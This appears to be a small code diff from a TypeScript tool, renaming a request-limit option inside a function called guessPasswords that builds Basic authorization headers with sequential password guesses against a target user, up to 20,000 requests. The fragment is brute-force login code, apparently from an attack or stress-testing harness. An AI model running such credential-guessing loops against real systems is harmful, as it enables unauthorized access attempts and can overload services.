@@ -10,7 +10,7 @@ const INTERVAL_MS = 250
 export const guessPasswords: Attack = async ({ url, besieged }) => {
   const agent = new Agent({ keepAlive: true, maxSockets: atOnce })
   return async (signal) => {
-    const statuses = await keepUp({ atOnce, most: 20_000 }, signal, async (_, turn) => {
+    const statuses = await keepUp({ atOnce, maxRequests: 20_000 }, signal, async (_, turn) => {
       const name = turn % 2 === 0 ? besieged : `Nadie ${turn}`
       const guess = turn.toString(16).padStart(32, '0')
       const authorization = `Basic ${Buffer.from(`${name}:${guess}`).toString('base64')}`
